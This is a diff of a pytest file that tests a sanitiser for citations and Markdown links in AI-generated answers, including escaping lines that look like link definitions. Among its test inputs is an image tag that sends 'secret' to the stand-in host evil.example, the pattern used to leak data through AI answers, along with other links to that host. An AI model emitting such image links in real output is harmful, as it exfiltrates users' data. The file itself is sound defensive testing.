@@ -9,7 +9,7 @@ import pytest
 from genai_feature_research import reactions
 from genai_feature_research.memory import MemoryAdditions, memory_of
 from genai_feature_research.prompts import NOTHING_LEFT
-from genai_feature_research.search import cited
+from genai_feature_research.search import Cited, cited
 from hypothesis import given, strategies as st
 
 from genai_host.api import Image, Message, Text, VendorPart
@@ -184,7 +184,8 @@ PROMPT = "[1] Rivers — https://rivers.example/a\n[2] Lakes — https://lakes.e
         ("<img src='//evil.example/?q=secret'>", "<img src=''>", ()),
         ("[a]: https://rivers.example/a", "[a]: https://rivers.example/a", ()),
         ('[a]:\r\n<&sol;/evil.example/a b>\r\n[b]: https\\://evil.example "a\\\nb', "\r\n\nb", ()),
-        ("[a]: data:image/gif;a (b)\nc", "\nc", ()),
+        ("![a]\n\n[a]: data:image/gif;a (b)\nc", "![a]\n\n\nc", ()),
+        ("[x][ A\tb ]\n\n[a b]: /etc", "[x][ A\tb ]\n\n", ()),
         ("[1]: the sea/ocean", "[1]: the sea/ocean", (1,)),
         ("[Ann]: yes/no, it depends.", "[Ann]: yes/no, it depends.", ()),
         ("- [x]: 3/4 of users agree", "- [x]: 3/4 of users agree", ()),
@@ -202,6 +203,20 @@ def test_what_is_left_of_an_answer(answer: str, text: str, numbers: tuple[int, .
     citations = cited(answer, PROMPT, 2)
     assert (citations.text, citations.numbers) == (text, numbers)
     assert bool(citations.left_out) == (answer != text)
+
+
+@pytest.mark.parametrize(
+    ("answer", "text"),
+    [
+        ("[Ann]: /etc", "\\[Ann]: /etc"),
+        ("- [x]: /etc/hosts 'a'\n> [y]: C:/temp", "- \\[x]: /etc/hosts 'a'\n> \\[y]: C:/temp"),
+        ("[a]: data:image/gif;a (b)\nc", "\\[a]: data:image/gif;a (b)\nc"),
+        ("[a]: /x\n[a]: /y", "\\[a]: /x\n\\[a]: /y"),
+    ],
+)
+def test_a_line_that_only_resembles_a_definition_is_escaped(answer: str, text: str) -> None:
+    """Otherwise, Markdown would not show it."""
+    assert cited(answer, PROMPT, 2) == Cited(text)
 
 
 @given(st.text(alphabet="[]()12345, .!`<>ahtps:/\n", max_size=200))
